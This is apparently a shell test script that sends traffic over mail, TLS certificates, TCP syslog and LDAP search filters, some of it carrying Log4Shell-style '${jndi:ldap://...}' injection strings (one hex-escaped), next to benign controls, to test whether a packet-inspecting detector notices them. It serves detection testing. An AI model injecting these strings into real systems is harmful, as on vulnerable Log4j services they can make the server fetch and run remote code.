# SPDX-License-Identifier: GPL-2.0-or-later
# Carriers that hide text from whoever looks at packets only: mails (Python's smtplib to Python's smtpd), certificates
# (openssl to openssl, TLS 1.2), LDAP filters (ldapsearch to slapd), counted syslog over TCP (util-linux logger).

send_mail() { timeout 10 $OUT /usr/bin/python3 "$here/srv/send_mail.py" 10.99.0.2 "$@"; }

# make_certificate NAME SUBJECT: key and certificate in $WORK.
make_certificate() {
    openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 30 -utf8 -subj "$2" \
        -addext 'subjectAltName=DNS:www.corp.example' -keyout "$WORK/$1.key" -out "$WORK/$1.pem" 2>>"$WORK/servers.log"
}

tls_client() {
    timeout 5 $OUT openssl s_client -connect 10.99.0.2:443 -tls1_2 -servername www.corp.example </dev/null
}

log_over_tcp() {
    local line
    for line in "$@"; do
        timeout 5 $OUT logger -n 10.99.0.2 -T --octet-count -P 601 -t app "$line"
    done
}

if wanted mail-attachment mail-subject benign-mail; then
    serve in 25 /usr/bin/python3 "$here/srv/mail_sink.py" 10.99.0.2 25
    scene mail-attachment send_mail 'Meeting' 'See the notes.' 'user ${jndi:ldap://10.99.0.1:1389/attachment} was here'
    scene mail-subject send_mail 'Größe ${jndi:ldap://10.99.0.1:1389/subject} geändert' 'Hello' 'nothing'
    scene benign-mail send_mail 'Größe ${name} geändert' 'Dear ${customer}, the search in ldap://ldap.corp.example is back.' \
        'url=${LDAP_URL:-none}'
    stop_servers
fi

if wanted tls-certificate benign-tls; then
    make_certificate evil '/O=Corp/CN=${jndi:ldap:\/\/10.99.0.1:1389\/certificate}'
    make_certificate good '/O=Corp/CN=www.corp.example'
    serve in 443 openssl s_server -quiet -accept 10.99.0.2:443 -tls1_2 -key "$WORK/evil.key" -cert "$WORK/evil.pem" -www
    scene tls-certificate tls_client
    stop_servers
    serve in 443 openssl s_server -quiet -accept 10.99.0.2:443 -tls1_2 -key "$WORK/good.key" -cert "$WORK/good.pem" -www
    scene benign-tls tls_client
    stop_servers
fi

if wanted syslog-tcp; then
    serve in 601 python3 "$here/srv/tcp_sink.py" 10.99.0.2 601
    scene syslog-tcp log_over_tcp 'cannot close ${bracket' 'login of ${jndi:ldap://10.99.0.1:1389/counted} failed' 'bye'
    stop_servers
fi

if wanted ldap-search-filter; then
    ldap_up
    scene ldap-search-filter timeout 10 $IN ldapsearch -x -LLL -H ldap://10.99.0.1:389 -b dc=corp,dc=example \
        '(uid=\24\7bjndi:ldap://10.99.0.1:1389/filter\7d)' cn
    stop_servers
fi
